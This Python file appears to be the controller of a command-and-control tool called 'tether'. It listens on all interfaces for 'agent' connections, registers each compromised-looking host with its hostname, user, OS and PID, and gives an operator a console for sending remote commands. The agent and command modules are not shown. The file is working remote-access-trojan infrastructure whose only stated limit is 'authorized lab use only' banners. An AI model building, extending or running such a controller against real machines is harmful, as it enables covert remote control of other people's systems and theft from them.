#!/usr/bin/env python3
"""
tether Controller
Lab use only.

Responsibilities:
- Listen for agent connections
- Register each agent as a session after its hello handshake
- Run the operator console against the registered sessions
"""

import argparse
import logging
import select
import socket
import sys
import threading
from typing import Optional, Tuple

from .. import __version__, protocol
from ..errors import TetherError
from .console import Console
from .output import OutputSink
from .registry import Registry
from .rpc import DEFAULT_PING_TIMEOUT, RemoteCommands
from .session import Session

logger = logging.getLogger(__name__)

DEFAULT_BIND = "0.0.0.0"
DEFAULT_PORT = 4422
DEFAULT_COMMAND_TIMEOUT = 120.0
HANDSHAKE_TIMEOUT = 10.0


class Controller:
    def __init__(self, bind: str = DEFAULT_BIND, port: int = DEFAULT_PORT,
                 ping_timeout: Optional[float] = DEFAULT_PING_TIMEOUT,
                 command_timeout: Optional[float] = DEFAULT_COMMAND_TIMEOUT):
        self.bind = bind
        self.port = port
        self.registry = Registry()
        self.sink = OutputSink()
        self.rpc = RemoteCommands(self.registry, self.sink, ping_timeout, command_timeout)
        self.console = Console(self.registry, self.rpc)
        self.server_sock: Optional[socket.socket] = None
        self.running = True

    def listen(self) -> socket.socket:
        server_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server_sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server_sock.bind((self.bind, self.port))
        server_sock.listen(5)
        self.server_sock = server_sock
        self.port = server_sock.getsockname()[1]
        logger.info("listening on %s:%d", self.bind, self.port)
        return server_sock

    def serve_forever(self) -> None:
        """Accept agents until shutdown; select keeps the shutdown prompt."""
        while self.running:
            try:
                ready, _, _ = select.select([self.server_sock], [], [], 1.0)
                if not ready:
                    continue
                conn, addr = self.server_sock.accept()
            except (OSError, ValueError):
                if self.running:
                    logger.exception("accept failed")
                break
            threading.Thread(
                target=self.handle_agent,
                args=(conn, addr),
                daemon=True,
            ).start()

    def handle_agent(self, conn: socket.socket, addr: Tuple[str, int]) -> Optional[Session]:
        """Handshake with a new connection and register it."""
        conn.settimeout(HANDSHAKE_TIMEOUT)
        try:
            hello = protocol.recv_message(conn)
        except (TetherError, OSError) as e:
            logger.warning("handshake with %s:%s failed: %s", addr[0], addr[1], e)
            conn.close()
            return None
        if hello.get("type") != protocol.HELLO:
            logger.warning("invalid handshake from %s:%s (%r)", addr[0], addr[1], hello.get("type"))
            conn.close()
            return None
        conn.settimeout(None)

        session = self.registry.register(conn, addr, {
            "os": hello.get("os", "unknown"),
            "hostname": hello.get("hostname", "unknown"),
            "user": hello.get("user", "unknown"),
            "pid": hello.get("pid", "unknown"),
        })
        self.rpc.attach(session)
        self.console.write(
            f"\n[+] Client {session.id} connected: {session.hostname} "
            f"({session.metadata['user']}, {session.metadata['os']})")
        return session

    def shutdown(self) -> None:
        self.running = False
        if self.server_sock is not None:
            self.server_sock.close()
        self.registry.close_all()

    def run(self) -> None:
        self.listen()
        self.console.write(f"[+] Controller listening on {self.bind}:{self.port}")
        self.console.write("[i] Waiting for agents... type 'help' for commands.")
        threading.Thread(target=self.serve_forever, name="accept", daemon=True).start()
        self.sink.start(self.console.write)
        try:
            self.console.loop()
        finally:
            self.shutdown()


def parse_args(argv=None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="tether controller")
    parser.add_argument("--bind", "-b", default=DEFAULT_BIND,
                        help=f"Address to listen on (default: {DEFAULT_BIND})")
    parser.add_argument("--port", "-p", type=int, default=DEFAULT_PORT,
                        help=f"Port to listen on (default: {DEFAULT_PORT})")
    parser.add_argument("--ping-timeout", type=float, default=DEFAULT_PING_TIMEOUT,
                        help=f"Seconds to wait for a ping reply (default: {DEFAULT_PING_TIMEOUT})")
    parser.add_argument("--command-timeout", type=float, default=DEFAULT_COMMAND_TIMEOUT,
                        help="Seconds to wait for a foreground command, 0 waits forever "
                             f"(default: {DEFAULT_COMMAND_TIMEOUT})")
    parser.add_argument("--verbose", "-v", action="store_true", help="Debug logging")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )

    print(f"[i] tether Controller v{__version__}")
    print("[i] For authorized lab use only.\n")

    controller = Controller(args.bind, args.port, args.ping_timeout,
                            args.command_timeout or None)
    try:
        controller.run()
    except OSError as e:
        print(f"[!] Cannot listen on {args.bind}:{args.port}: {e}", file=sys.stderr)
        sys.exit(1)
    except KeyboardInterrupt:
        print("\n[!] Shutting down controller...")
    sys.exit(0)


if __name__ == "__main__":
    main()
